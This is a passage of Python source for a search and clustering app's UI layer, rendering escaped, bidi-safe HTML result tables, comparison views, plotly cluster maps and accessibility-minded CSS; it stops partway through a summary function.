"""Turning the core's results into what the UI shows: HTML, table rows, a plotly map, CSV.

Everything that came from a user or a document is escaped (``html.escape``) before it goes
into HTML, including hover texts of the map; highlights are added as ``<mark>`` around
escaped pieces, never by inserting markup into raw text. Every element holding such text has
``dir="auto"`` (``auto_dir``), so an Arabic or Hebrew snippet, title or metadata value reads
right to left and its cut marks ("…") land at its ends, not mid-sentence.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import json
import re
import time
import unicodedata
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any

from app.errors import InvalidRequestError
from app.services.clustering import far_apart
from app.services.indexing import LEFT_EMPTY
from app.services.search import TOP_LEVEL_FIELDS, check_filters, why_no_results
from app.text import plural, printable, size_text

if TYPE_CHECKING:
    import plotly.graph_objects as go

    from app.services.clustering import Cluster, ClusterResponse
    from app.services.collections import CollectionInfo, JobInfo
    from app.services.search import SearchRequest, SearchResponse, SearchResult

# Colours of the cluster map and the legend (plotly's qualitative "Plotly" + "D3" sets).
PALETTE = ["#636EFA", "#EF553B", "#00CC96", "#AB63FA", "#FFA15A", "#19D3F3", "#FF6692",
           "#B6E880", "#FF97FF", "#FECB52", "#1F77B4", "#FF7F0E", "#2CA02C", "#D62728",
           "#9467BD", "#8C564B", "#E377C2", "#7F7F7F", "#BCBD22", "#17BECF"]

CSS = """
.facet-table {border-collapse: collapse; width: 100%; font-size: 0.92em}
.facet-table th, .facet-table td {border-bottom: 1px solid #ddd; padding: 4px 6px;
  text-align: start; vertical-align: top}
.facet-table td.num {text-align: right; white-space: nowrap; font-variant-numeric: tabular-nums}
.facet-table mark {background: #ffe58a; color: #1f1f1f; padding: 0 1px}
/* A long unbroken word (a URL, an id, a 300-character token) breaks where it must: one made
   the results table 3,470 px wide on any screen, and Gradio's container clips what overflows,
   so the snippet and metadata columns could not be reached. What still does not fit (a phone)
   scrolls sideways inside its own box (.facet-scroll, focusable, named). */
.facet-table td, .facet-info, .facet-note, .facet-meta, #documents-remove label {overflow-wrap: anywhere}
.facet-scroll {overflow-x: auto; max-width: 100%}
.facet-table small {color: #666}
.facet-meta {font-family: monospace; font-size: 0.85em; color: #444; white-space: pre-wrap}
/* "; … (N more values not shown)" is read but not copied: a metadata line pasted into the
   filters box with it was refused. */
.facet-more {user-select: none; -webkit-user-select: none}
/* Text on a light box sets its own colour: in dark mode it inherited the page's light text
   (notices 1.04:1 against their cream, highlights 1.14:1). */
.facet-note {margin: 4px 0; padding: 6px 8px; border-left: 4px solid #f0ad4e; background: #fff8e6;
  color: #1f1f1f}
.facet-note small {color: #555}
.facet-info {margin: 4px 0; color: #444}
.facet-bar {height: 14px; background: #eee; border-radius: 7px; overflow: hidden; margin: 6px 0}
/* The fill against its track: #4caf50 was ~2.6:1 (3:1 is asked of a graphic that informs). */
.facet-bar > div {height: 100%; background: #2e7d32}
/* Forced colours (Windows High Contrast) painted track and fill alike: the bar was gone. */
@media (forced-colors: active) {
  .facet-bar {border: 1px solid CanvasText}
  .facet-bar > div {background: Highlight; forced-color-adjust: none}
}
/* Gradio's info lines under a box hold the filter syntax and what Enter does: #bbbbc2 on white
   (1.9:1, 12 px). */
.gradio-container .info-text {color: #55555d !important}
.dark .gradio-container .info-text {color: #b4b4bc !important}
.dark.gradio-container .info-text {color: #b4b4bc !important}
.facet-up {color: #2e7d32} .facet-down {color: #c62828} .facet-new {color: #1565c0}
/* Gradio's dark mode (a .dark class above the page): the grey texts were ~2:1 on its #0f0f11.
   One selector a rule: Gradio rewrites the second of a ".dark X, .dark Y" list into one that
   never matches (the metadata stayed 1.97:1). */
.dark .facet-info {color: #c9c9cf}
.dark .facet-meta {color: #c9c9cf}
.dark .facet-note {color: #1f1f1f}
.dark .facet-table small {color: #a9a9b2}
.dark .facet-table th {border-bottom-color: #3f3f46}
.dark .facet-table td {border-bottom-color: #3f3f46}
.dark .facet-bar {background: #3f3f46}
.dark .facet-up {color: #81c784} .dark .facet-down {color: #ef9a9a} .dark .facet-new {color: #90caf9}
/* Gradio's status overlay, hidden (class "hide") after an event that shows no progress ended
   in an error, is only transparent: its "Clear" button stayed a Tab stop and a screen reader
   read "Clear, Error" beside the delete confirmation and the upload box (the keyboard review
   of the first session of 2026-12-07). Out of the page while hidden. */
[data-testid="status-tracker"].hide {display: none !important}
button:focus-visible, [role=tab]:focus-visible, input[type=radio]:focus-visible,
input[type=checkbox]:focus-visible {outline: 2px solid #1a5fb4; outline-offset: 2px}
/* The upload zones: a button filling a block that cuts what lies outside it, so the ring above
   (outside the button) was never seen; inside it here. */
#index-files button:focus-visible, #cluster-upload button:focus-visible,
#cluster-labels button:focus-visible {outline-offset: -3px}
/* Text boxes, number boxes and pickers: Gradio's own focus ring (a pale border and shadow) was
   ~1.9:1 against white; this one is ~6:1. Inside the box (a negative offset): its container
   cuts what lies outside. The job bar takes the focus after "Cancel job". */
input:not([type=radio]):not([type=checkbox]):focus-visible, textarea:focus-visible,
#index-status:focus-visible {outline: 2px solid #1a5fb4 !important; outline-offset: -2px}
/* Phones (measured at 360 and 390 px wide, third session of 2026-12-04): the page's 32 px
   margins and the tabs' padding hid Cluster, Index and Collections behind Gradio's "more tabs"
   menu and left the results 272 of 360 px; a search result's snippet was a 68 px column that
   broke every word (rows up to 513 px high), read now as a card: rank, score and document on
   one line, the snippet and the metadata below at full width (the column names stay for
   screen readers); the Documents table's narrow columns broke "indexed" in two. */
@media (max-width: 640px) {
  .tab-container button {padding-left: 6px !important; padding-right: 6px !important}
  #search-results .facet-table thead {position: absolute; width: 1px; height: 1px;
    overflow: hidden; clip: rect(0 0 0 0); white-space: nowrap}
  #search-results .facet-table tr {display: grid; grid-template-columns: 2em 4.5em 1fr;
    border-bottom: 1px solid #ddd}
  .dark #search-results .facet-table tr {border-bottom-color: #3f3f46}
  #search-results .facet-table td {border: 0}
  #search-results .facet-table td:nth-child(n+4) {grid-column: 1 / -1}
  /* Compare's five columns left each ranking's documents 85 px (rows 117 px high): a row is
     read as two columns under the rank, each score above its document, the header alike. */
  #compare-results .facet-table tr {display: grid; grid-template-columns: 1.6em 1fr 1fr;
    column-gap: 4px; padding: 4px 0; border-bottom: 1px solid #ddd}
  .dark #compare-results .facet-table tr {border-bottom-color: #3f3f46}
  #compare-results .facet-table th, #compare-results .facet-table td {border: 0; margin: 0;
    padding: 2px 4px; text-align: start}
  #compare-results .facet-table tr > :nth-child(1) {grid-column: 1; grid-row: 1 / span 2}
  #compare-results .facet-table tr > :nth-child(2) {grid-column: 2; grid-row: 1}
  #compare-results .facet-table tr > :nth-child(3) {grid-column: 2; grid-row: 2}
  #compare-results .facet-table tr > :nth-child(4) {grid-column: 3; grid-row: 1}
  #compare-results .facet-table tr > :nth-child(5) {grid-column: 3; grid-row: 2}
  #documents-table th, #documents-table [role=gridcell] {flex: 0 0 150px !important;
    width: 150px !important; min-width: 150px !important}
  #documents-table .virtual-body, #documents-table table.header-table {width: 750px !important}
}
/* Touch screens: the small buttons (Cancel job, the Documents pages) were 26 px high. */
@media (pointer: coarse) {
  #index-cancel-button, #documents-previous, #documents-next {min-height: 44px}
}
/* Read by screen readers, not shown: a job's state changes, a run's notices. */
.facet-sr-only {position: absolute !important; width: 1px; height: 1px; padding: 0;
  margin: -1px; overflow: hidden; clip: rect(0 0 0 0); white-space: nowrap; border: 0}
"""


# The page's own margins sit outside what Gradio scopes ``CSS`` to (every rule of it is
# prefixed with the app's ``.contain`` box, inside them): given as the page head's own style.
HEAD = ("<style>@media (max-width: 640px) {.gradio-container .main.fillable "
        "{padding-left: 8px !important; padding-right: 8px !important}}</style>")


def esc(value: object) -> str:
    """HTML-escaped ``str(value)``."""
    return html.escape(str(value), quote=True)


def auto_dir(inner_html: str, tag: str = "span") -> str:
    """``inner_html`` (already escaped) in a ``tag`` with ``dir="auto"``: the browser reads its
    direction from its first strong letter, so right-to-left text is laid out (and, in a
    block, aligned) right to left, and isolated from the left-to-right text around it."""
    return f'<{tag} dir="auto">{inner_html}</{tag}>'


# The bidi controls that open an embedding or override (LRE, RLE, LRO, RLO; closed by PDF) or
# an isolate (LRI, RLI, FSI; closed by PDI).
_BIDI_OPENS = {"\u202a": "\u202c", "\u202b": "\u202c", "\u202d": "\u202c", "\u202e": "\u202c",
               "\u2066": "\u2069", "\u2067": "\u2069", "\u2068": "\u2069"}


# Where a line ends (``str.splitlines``' breaks: a snippet's "\r\n", U+2028, U+0085...).
_LINE_BREAKS = frozenset("\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029")


def bidi_closed(text: str) -> str:
    """``text`` (plain or escaped) with each bidi embedding, override or isolate it leaves open
    closed at the end of its line and of the text (PDF, PDI), so it acts on its own line only:
    a document's U+202E (right-to-left override) reversed the rest of its snippet on the
    Search and Compare tabs, highlights and later lines included (the UI review of the fifth
    session of 2026-12-06; a terminal ends it at the line's end, and the page now does too).
    The controls themselves are kept: the snippet is shown as written."""
    if not any(ch in _BIDI_OPENS for ch in text):
        return text
    out: list[str] = []
    open_: list[str] = []  # the closers owed, innermost last

    def close() -> None:
        out.extend(reversed(open_))
        open_.clear()

    for ch in text:
        if ch in _LINE_BREAKS:  # (U+2028 too: chromium draws it as a space, reversed on)
            close()
        elif ch == "\u202c" and open_ and open_[-1] == "\u202c":
            open_.pop()  # PDF: ends the innermost embedding or override, not an isolate
        elif ch == "\u2069" and "\u2069" in open_:
            while open_.pop() != "\u2069":  # PDI: ends the innermost isolate, and what opened in it
                pass
        out.append(ch)
        if ch in _BIDI_OPENS:
            open_.append(_BIDI_OPENS[ch])
    close()
    return "".join(out)


# Bidi classes that leave a left-to-right line's order as it is: text of none but these needs
# no isolate (``isolated``); a right-to-left letter (R, AL), Arabic digits (AN) or a bidi
# control does.
_LTR_SAFE = frozenset({"L", "EN", "ES", "ET", "CS", "NSM", "BN", "B", "S", "WS", "ON"})


def isolated(text: str) -> str:
    """``text`` between FSI and PDI (U+2068, U+2069) where it holds right-to-left letters or a
    bidi control, with any it leaves open closed (``bidi_closed``), so that it is laid out as
    one unit in the direction of its own first strong letter and the text around it keeps its
    order; other text as it is. For plain-text places with no element to set ``dir`` on: the
    cluster map's legend entry "1: <Hebrew name> (2)" was drawn "1: (2) <name>", the size
    read as part of the name (the UI review of the sixth session of 2026-12-06)."""
    if all(unicodedata.bidirectional(ch) in _LTR_SAFE for ch in text):
        return text
    return f"\u2068{bidi_closed(text)}\u2069"


def highlight(snippet: str, spans: Sequence[Sequence[int]]) -> str:
    """``snippet`` escaped, with each ``(start, end)`` span wrapped in ``<mark>``, and any bidi
    override it leaves open closed at its line's end (``bidi_closed``)."""
    out, at = [], 0
    for start, end in sorted((int(a), int(b)) for a, b in spans):
        if start < at or end <= start:
            continue  # overlapping or empty spans: keep the first
        out.append(esc(snippet[at:start]))
        out.append(f"<mark>{esc(snippet[start:end])}</mark>")
        at = end
    out.append(esc(snippet[at:]))
    return bidi_closed("".join(out))


def notices_html(notices: Sequence[str]) -> str:
    """Warnings shown above a result (a cut query, refused uploads)."""
    # Notices name files (an upload not indexed, one renamed): shown as ``name_html`` shows them.
    return "".join(f'<div class="facet-note">{name_html(n)}</div>' for n in notices if n)


def said_html(notices: Sequence[str], limit: int = 160) -> str:
    """``notices`` (plain text, each cut to ``limit`` characters) in a visually hidden span, for a
    live summary: a screen reader hears why a run found nothing or what was changed (k cut to
    50), which only the results area (not live) said."""
    said = " ".join(_short(n, limit) for n in notices if n)
    return f' <span class="facet-sr-only">{name_html(said)}</span>' if said else ""


def filter_value(value: object) -> str:
    """A metadata value as the filter box takes it back (``ui.inputs.parse_filter_text``): a
    string as it is (``key=value``), a number, boolean or null as JSON (``key:=true``), a list
    as a JSON array (``["maritime", "safety"]``: ``tags=maritime`` matches a document holding
    it). ``str`` showed Python's ``['maritime', 'safety']``, ``True``, ``None``: pasted back as
    ``tags=['garden']`` it found nothing."""
    if isinstance(value, str):
        return value
    try:
        return json.dumps(value, ensure_ascii=False, default=str)
    except (TypeError, ValueError, RecursionError):
        return str(value)


# A string value the filter box takes back as typed after ``key=``: words with single spaces
# between them and no ``;`` (which ends an item). Anything else is shown as a JSON string
# after ``key:=``: the box strips a plain value, cuts it at ``;`` and at line ends, and the page
# shows a run of spaces as one.
_SHOWN_AS_TYPED = re.compile(r"[^\s;]+(?: [^\s;]+)*")


def filter_item(key: str, value: object, *, booleans: bool = True) -> tuple[str, str, str] | None:
    """The filter item that finds a document whose metadata field ``key`` holds the scalar
    ``value``, as ``(key, "=" or ":=", value)`` text, checked by reading it back as the filter
    box does (``ui.inputs.parse_filter_text``, ``check_filters``); None where no item can (a
    null, a nested value, a number past 64 bits, a key holding ``=``, ``;`` or a line end, a
    true/false where the store cannot match them: ``booleans`` False, the edge store).
    A field named as a result's own one (``source``) or starting ``meta.`` is named
    ``meta.KEY``: ``source=...`` matches the file, not the metadata."""
    from ui.inputs import parse_filter_text

    if isinstance(value, bool) and not booleans:
        return None  # (`flag:=true` was shown, and the edge store refused it pasted back)
    name = f"meta.{key}" if key in TOP_LEVEL_FIELDS or key.startswith("meta.") else key
    try:
        as_json = json.dumps(value, ensure_ascii=False, allow_nan=False)
    except (TypeError, ValueError, RecursionError):
        return None
    forms = [(name, ":=", as_json)]
    if isinstance(value, str) and _SHOWN_AS_TYPED.fullmatch(value):
        forms.insert(0, (name, "=", value))
    for form in forms:
        try:
            parsed = parse_filter_text("".join(form))
            check_filters(parsed)
        except InvalidRequestError:
            continue
        if list(parsed) == [name] and parsed[name] == value and type(parsed[name]) is type(value):
            return form
    return None


def _metadata(meta: dict[str, Any], limit: int = 300, *, booleans: bool = True) -> str:
    """A result's metadata, a field a line, each as the filter item that finds the document
    (``filter_item``; a list's values each, as ``tags=a; tags=b``: any of them finds it), or
    ``key: value`` where none can. A value longer than ``limit`` is cut and says how much is
    left out (at 80 characters, without a word, a cut value pasted as a filter found nothing;
    long words now wrap in the cell); a list cut says how many values are not shown, in a span
    not copied (``.facet-more``). ``booleans``: whether the store matches true/false."""
    if not meta:
        return ""

    def cut(text: str) -> str:
        return f"{text[:limit]}… ({len(text) - limit:,} more characters not shown)" if len(text) > limit else text

    parts = []
    for key, value in meta.items():
        values = value if isinstance(value, list) else [value]
        items = [filter_item(key, v, booleans=booleans) for v in values]
        if not values or any(item is None for item in items):
            # "none:=null", "tags:=[...]" or "a;b=x" pasted back found nothing or was refused.
            parts.append(f"{auto_dir(esc(key))}: {auto_dir(esc(cut(filter_value(value))))}")
            continue
        shown: list[str] = []
        length = 0
        for item in items:
            assert item is not None
            name, op, text = item
            length += len(name) + len(op) + len(text) + 2  # as the line reads, "; " between
            if shown and length > limit:
                left = plural(len(items) - len(shown), "more value")
                more = f'<span class="facet-more">; … ({left} not shown)</span>'
                break
            shown.append(f"{auto_dir(esc(name))}{op}{auto_dir(esc(cut(text)))}")
        else:
            more = ""
        parts.append("; ".join(shown) + more)
    return '<div class="facet-meta">' + "<br>".join(parts) + "</div>"


def _document(r: SearchResult, uploads: str | None = None) -> str:
    """A result's document cell. Its source is the cell's tooltip, except a file under
    ``uploads`` (the server's data folder, which the page shows nowhere else)."""
    name = r.title or r.doc_id
    if not r.title and r.source and r.doc_id.startswith(r.source):
        # A record named by its file and line (``/srv/.../uploads/c/msgs.jsonl#L3``): the file's
        # name, as uploaded, not its path on the server.
        name = Path(r.source).name + r.doc_id[len(r.source):]
    # A name's control characters and bidi overrides shown escaped, as the CLI shows them:
    # "invoice\u202efdp.exe" read as another name, ESC and BEL went to the page raw.
    source = r.source or ""
    if uploads and (source + "/").startswith(uploads.rstrip("/") + "/"):
        source = ""
    title = f' title="{esc(printable(source))}"' if source else ""
    return (f'<span dir="auto"{title}>{name_html(name)}'
            f"</span><br><small>chunk {r.chunk_no}</small>")


def name_html(name: str | None) -> str:
    """A key, path, title or job message (one line of text from a file's name or a document)
    HTML-escaped, with each control character and bidi control shown as a visible escape
    (``\\x07``, ``\\u202e``, ``printable``), as the CLI shows it."""
    return esc(printable(name or ""))


# What the first stage of a reranked search scored by, per mode (a lexical search's BM25 score
# was labelled "vector").
FIRST_STAGE = {"lexical": "bm25", "hybrid": "fused", "dense": "vector"}


def _score(r: SearchResult, mode: str = "dense") -> str:
    if r.rerank_score is None:
        return f"{r.score:.3f}"
    return f"{r.score:.3f}<br><small>{FIRST_STAGE.get(mode, 'first stage')} {r.vector_score:.3f}</small>"


def results_html(response: SearchResponse, *, group_by_document: bool = False,
                 notices: Sequence[str] = (), filters: Mapping[str, Any] | None = None,
                 uploads: str | None = None, booleans: bool = True) -> str:
    """The ranked results as an HTML table: rank, score, document, highlighted snippet, metadata.
    ``booleans``: whether the store matches true/false in a filter (not the edge store: its
    true/false fields are shown ``key: true``, not as a filter item it refuses).

    With ``group_by_document`` there is one row per document (at its best rank and score) with
    the snippets of all its matching chunks. ``uploads``: the data folder's upload area, whose
    paths are not shown (``_document``).
    """
    head = notices_html(notices)
    if not response.results:
        return head + (f'<p class="facet-info">No results: '
                       f"{esc(why_no_results(response, filters))}.</p>")
    rows = []
    if group_by_document:
        groups: dict[str, list[SearchResult]] = {}
        for r in response.results:
            groups.setdefault(r.doc_id, []).append(r)
        for members in groups.values():
            best = members[0]
            # One block per snippet, each with its own direction; the chunk label has its own
            # (dir="auto" skips it when it picks the snippet's).
            snippets = "".join(auto_dir(
                (f'<small dir="ltr">chunk {m.chunk_no}:</small> ' if len(members) > 1 else "")
                + highlight(m.snippet, m.highlights), "div") for m in members)
            more = sorted({n for m in members for n in m.more_chunks})
            if more:  # the core grouped them: its other matching chunks, by number
                snippets += (f"<div><small>also matching: chunk{'s' if len(more) > 1 else ''} "
                             f"{', '.join(map(str, more))}</small></div>")
            n_chunks = len(members) + len(more)
            count = f"<br><small>{n_chunks} chunks</small>" if n_chunks > 1 else ""
            rows.append(f'<tr><td class="num">{best.rank}</td><td class="num">{_score(best, response.mode)}</td>'
                        f"<td>{_document(best, uploads)}{count}</td><td>{snippets}</td>"
                        f"<td>{_metadata(best.metadata, booleans=booleans)}</td></tr>")
    else:
        for r in response.results:
            rows.append(f'<tr><td class="num">{r.rank}</td><td class="num">{_score(r, response.mode)}</td>'
                        f"<td>{_document(r, uploads)}</td>{auto_dir(highlight(r.snippet, r.highlights), 'td')}"
                        f"<td>{_metadata(r.metadata, booleans=booleans)}</td></tr>")
    table = ('<table class="facet-table facet-results"><caption class="facet-sr-only">Search results'
             "</caption><thead><tr><th>#</th><th>score</th>"
             "<th>document</th><th>snippet</th><th>metadata</th></tr></thead><tbody>"
             + "".join(rows) + "</tbody></table>")
    return head + scrolling(table, "Search results")


def scrolling(table: str, name: str) -> str:
    """``table`` in a box that scrolls sideways where the table is wider than the page (a
    phone, 200% zoom): Gradio's container clipped it out of reach. Focusable and named, so
    that a keyboard user can scroll it with the arrow keys."""
    return f'<div class="facet-scroll" role="region" tabindex="0" aria-label="{esc(name)}">{table}</div>'


def failed_html(message: str | None = None, *, what: str = "run", results: bool = True) -> str:
    """What a result area shows after its run (``what``) failed: why (``message``, plain text),
    and, for an area of ``results``, that nothing from an earlier run is shown. The reason is
    here as well as in the error toast, which closes itself after 10 s: the area said "its
    message is shown above" of a toast gone."""
    why = f": {name_html(message)}" if message else " (the reason was shown as a message at the top right)"
    earlier = "<br><small>Nothing from an earlier run is shown here.</small>" if results else ""
    # aria-live="off": the error toast (a polite status of Gradio's own) says it already; inside
    # a live summary area it was read twice.
    return (f'<div class="facet-info facet-note facet-failed" dir="auto" aria-live="off">The last '
            f"{esc(what)} failed{why}{earlier}</div>")


def search_summary(response: SearchResponse, wall_ms: float, *, group_by_document: bool = False,
                   embedder: str | None = None, reranker: str | None = None,
                   notices: Sequence[str] = (), filters: Mapping[str, Any] | None = None) -> str:
    """One line: how many results, from which embedder and reranker, and how long it took.

    With ``group_by_document`` it counts what the table shows: documents, and the matching
    chunks among them. ``embedder`` and ``reranker`` are the specs that ran
    (``UiHandlers._specs_used``, from the response's ``embedder_spec`` / ``reranker_spec``):
    ``embedder`` / ``reranker`` name the vector and the model ("minilm"), which hid the options
    a query was read with (``minilm[instruction_weight=1]``).

    The summary is the live area: with no results, why (``filters``: the search's), and the
    ``notices`` shown above the results are said in it too (``said_html``, not shown twice).
    """
    reranker = reranker or response.reranker
    reranked = f", reranked by {esc(reranker)}" if reranker else ""
    if response.mode == "hybrid":
        reranked = f" with BM25, fused by rank{reranked}"
    instruction = (f" under the instruction \u201c{auto_dir(esc(_short(response.instruction, 120)))}\u201d"
                   if response.instruction else " without an instruction")
    if response.instruction and not response.instruction_read:
        # A word search, or an embedder registered as reading none (its note says so).
        instruction = (" by the words alone (BM25 does not read the instruction)" if response.words_alone
                       else " (the instruction was not read: see the note)")
    count = plural(len(response.results), "result", grouped=True)
    said = list(notices)
    if not response.results:
        said.append(f"No results: {why_no_results(response, filters)}.")
    if group_by_document:
        documents = len({r.doc_id for r in response.results})
        chunks = sum(1 + len(r.more_chunks) for r in response.results)
        count = (f"{plural(documents, 'document', grouped=True)} "
                 f"({plural(chunks, 'matching chunk', grouped=True)})")
    return (f'<div class="facet-info">{count} from '
            f"<b>{esc(response.collection)}</b> ({esc(embedder or response.embedder)}{reranked})"
            f"{instruction}"
            f" in {wall_ms:.0f} ms.{said_html(said)}</div>")


def _short(text: str | None, limit: int) -> str:
    text = text or ""
    return text if len(text) <= limit else text[:limit] + "…"


def _middle_cut(text: str | None, limit: int) -> str:
    """``text`` cut in its middle to about ``limit`` characters, keeping its start and its end:
    two instructions alike in their first words (E5's "Represent the ... for retrieving ...")
    differ at the end, which a cut at the end hid."""
    text = text or ""
    if len(text) <= limit:
        return text
    keep = max(1, (limit - 1) // 2)
    return text[:keep] + "…" + text[-keep:]


def compare_html(a: SearchResponse, b: SearchResponse, notices: Sequence[str] = ()) -> str:
    """Two rankings of one query side by side, with how each result of B moved against A."""
    key = lambda r: (r.doc_id, r.chunk_no)  # noqa: E731
    rank_a = {key(r): r.rank for r in a.results}
    rank_b = {key(r): r.rank for r in b.results}
    shared = len(set(rank_a) & set(rank_b))
    moved = sum(1 for k, r in rank_b.items() if k in rank_a and rank_a[k] != r)
    rows = []
    for i in range(max(len(a.results), len(b.results))):
        cells = []
        for side, other in ((a, rank_b), (b, rank_a)):
            if i >= len(side.results):
                cells.append("<td></td><td></td>")
                continue
            r = side.results[i]
            mark = ""
            if side is b:
                before = rank_a.get(key(r))
                if before is None:
                    mark = ' <span class="facet-new">new</span>'
                elif before > r.rank:
                    mark = f' <span class="facet-up">\u2191{before - r.rank}</span>'
                elif before < r.rank:
                    mark = f' <span class="facet-down">\u2193{r.rank - before}</span>'
            elif key(r) not in other:
                mark = ' <span class="facet-down">out</span>'
            cells.append(f'<td class="num">{r.score:.3f}{mark}</td>'
                         f"<td>{auto_dir(name_html(r.title or r.doc_id), 'div')}"
                         f"{auto_dir(highlight(r.snippet, r.highlights), 'div')}</td>")
        rows.append(f'<tr><td class="num">{i + 1}</td>{"".join(cells)}</tr>')
    # ``facet-summary``: copied into the tab's live area with the notes above it
    # (``COMPARE_SUMMARY_JS`` in ui.app; the table is not live: Compare's results were silent).
    # (Two empty lists read "0 of the top 1 results are shared", under an empty table.)
    summary = ('<div class="facet-info facet-summary">Neither instruction found a result.</div>'
               if not a.results and not b.results else
               f'<div class="facet-info facet-summary">{shared} of the top '
               f"{max(len(a.results), len(b.results))} results are shared; {moved} of them moved. "
               "Arrows: rank change from A to B; <i>new</i>: not in A's list; <i>out</i>: dropped "
               "from B's.</div>")
    table = ('<table class="facet-table facet-compare"><caption class="facet-sr-only">Compared results'
             "</caption><thead><tr><th>#</th>"
             f"<th>score A</th><th>A: {auto_dir(esc(_middle_cut(a.instruction, 160) or '(no instruction)'))}</th>"
             f"<th>score B</th><th>B: {auto_dir(esc(_middle_cut(b.instruction, 160) or '(no instruction)'))}</th>"
             "</tr></thead><tbody>" + "".join(rows) + "</tbody></table>")
    # The searches' notes (an embedder that reads no instruction: the tab that compares
    # instructions showed two equal lists and nothing else), each once.
    notes = [n for n in dict.fromkeys((a.note, b.note)) if n and n not in notices]
    return notices_html([*notices, *notes]) + summary + scrolling(table, "Compared results")


# ----------------------------------------------------------------- clusters


def plot_text(value: object) -> str:
    """``str(value)`` for a plotly title, legend or hover label: ``< > &`` escaped so no tag can
    form, quotes as typed (plotly decodes few entities: ``&quot;`` and ``&#x27;`` showed as
    written in the map's title, an instruction's quotes among them)."""
    return html.escape(str(value), quote=False)


def _wrap(text: str, width: int = 70, limit: int = 280) -> str:
    """Escaped hover text, cut to ``limit`` characters and broken into lines."""
    text = _short(" ".join(text.split()), limit)
    lines, line = [], ""
    for word in text.split(" "):
        if line and len(line) + len(word) + 1 > width:
            lines.append(line)
            line = word
        else:
            line = f"{line} {word}" if line else word
    lines.append(line)
    # Quotes stay as they are: plotly's hover labels decode only a few entities, so "&quot;"
    # showed as written; with < > & escaped no tag can form, so a quote cannot open one.
    return "<br>".join(plot_text(x) for x in lines)


def _name_share(cluster: Cluster) -> str | None:
    """How much of the cluster its name stands for, where not all: "24 of 71" (members'
    answers, as the page has always said) or "9 of 43 texts" (a name of keywords: members
    holding one of its words, which nothing showed until the seventh session of 2026-11-30)."""
    return cluster.name_share or cluster.name_share_label


def cluster_name(cluster: Cluster) -> str:
    """A cluster's name as the page shows it: with how many members' answers it is, where that
    is not all of them ("payment (24 of 71)": the table said so, the legend and the CSV did not),
    or how many members hold a word of a name of keywords ("card / came (4 of 7 texts)")."""
    share = _name_share(cluster)
    # The name isolated (``isolated``) where a share follows it: a right-to-left one took the
    # "(24 of 71)" into its run, as it took the legend's size (its verification).
    return (isolated(cluster.name) if share else cluster.name) + (f" ({share})" if share else "")


def cluster_label(cluster: Cluster) -> str:
    """A cluster's legend entry: its id, name and size ("2: payment, 24 of 71"), the name
    ``isolated`` (a right-to-left one took the size into its run)."""
    return (f"{cluster.id}: {isolated(_short(cluster.name, 40))} "
            f"({_name_share(cluster) or cluster.size})")


# Each cluster's marker, besides its colour: the colour alone told them apart (apart from
# the crosses of the centres, "x", which none of these is). Eleven, prime to the palette's 20:
# no two of 220 clusters share both (with ten, cluster 20 was cluster 0 again).
MARKERS = ["circle", "square", "diamond", "triangle-up", "triangle-down", "star", "hexagon",
           "pentagon", "triangle-left", "triangle-right", "hourglass"]


def cluster_figure(response: ClusterResponse, title: str = "") -> go.Figure:
    """A 2-D scatter of every text (PCA of its embedding), coloured and marked by cluster;
    hovering shows the text. Cluster centres are drawn as labelled crosses."""
    import plotly.graph_objects as go

    fig = go.Figure()
    xs = [p[0] for p in response.coordinates]
    ys = [p[1] for p in response.coordinates]
    for n, cluster in enumerate(response.clusters):
        idx = [i for i, label in enumerate(response.labels) if label == cluster.id]
        colour = PALETTE[n % len(PALETTE)]
        fig.add_trace(go.Scatter(
            x=[xs[i] for i in idx], y=[ys[i] for i in idx], mode="markers",
            name=plot_text(cluster_label(cluster)),
            marker={"size": 6 if len(response.texts) > 500 else 9, "color": colour,
                    "symbol": MARKERS[n % len(MARKERS)], "opacity": 0.75},
            hovertext=[_wrap(response.texts[i]) for i in idx], hoverinfo="text"))
    fig.add_trace(go.Scatter(
        x=[c.center[0] for c in response.clusters], y=[c.center[1] for c in response.clusters],
        mode="markers+text", name="centres", showlegend=False, hoverinfo="text",
        text=[str(c.id) for c in response.clusters], textposition="top center",
        hovertext=[plot_text(isolated(c.name)) for c in response.clusters],
        marker={"symbol": "x", "size": 12, "color": "black"}))
    # The legend under the plot, not beside it: on a 360 px phone a legend on the right left
    # the plot 64 px wide (every point in one column) and cut the title; the figure grows by
    # about a row of legend per three clusters so the plot keeps its height.
    rows = -(-len(response.clusters) // 3)
    fig.update_layout(title={"text": plot_text(title), "font": {"size": 14}}, template="plotly_white",
                      height=520 + 22 * rows, margin={"l": 20, "r": 20, "t": 50, "b": 20},
                      legend={"title": {"text": "cluster"}, "orientation": "h", "x": 0, "y": -0.12,
                              "yanchor": "top"},
                      xaxis={"title": "PC 1", "zeroline": False},
                      yaxis={"title": "PC 2", "zeroline": False})
    return fig


CLUSTER_COLUMNS = ["cluster", "size", "name", "keywords", "central members"]


def cluster_rows(response: ClusterResponse) -> list[list[Any]]:
    """One row per cluster, largest first: id, size, name, keywords, central members (each
    ``isolated``: a member's U+202E reversed the members after it, and a right-to-left one
    moved the " | " between them)."""
    return [[c.id, c.size, cluster_name(c), ", ".join(isolated(k) for k in c.keywords),
             " | ".join(isolated(_short(" ".join(m.split()), 160)) for m in c.representatives)]
            for c in response.clusters]


def cluster_summary(response: ClusterResponse, *, wall_s: float, v_measure: float | None,
                    label_count: int | None, notices: Sequence[str] = (),
                    embedder: str | None = None, max_k: int | None = None,
                    source: str | None = None) -> str:
    """What was clustered and how well: texts, k, silhouette, V-measure against labels, time;
    the response's note (fewer clusters than asked for, and why) is shown above it.
    ``embedder`` is the spec that encoded the texts (the response's ``embedder_spec``, shown
    by the page's ``_choice``): ``response.embedder`` names the model only ("minilm" for
    ``minilm[instruction_weight=1]``). ``max_k`` is the "Largest k to try" asked for: a k
    chosen by silhouette that reached it is said to be the largest tried (a larger one may
    fit better), as ``facet cluster`` says of its --max-k; ``label_count`` is the number of
    classes of the gold labels, named where it is far from a chosen k (the user can set k).
    ``source`` (HTML, ``search_source_html``) says what was clustered, for a search's results."""
    texts = len(response.texts)
    parts = [f"<b>{texts:,}</b> {'text' if texts == 1 else 'texts'}, <b>k = {response.k}</b>"
             + (" (chosen by silhouette)" if response.k_chosen else "")]
    if response.silhouette is not None:
        tried = response.max_k_tried if response.k_chosen else None
        parts.append(f"silhouette {response.silhouette:.3f}"
                     + ((", k = 2 the only one tried" if tried == 2 else
                         f", the best of k = 2 to {tried}") if tried else ""))
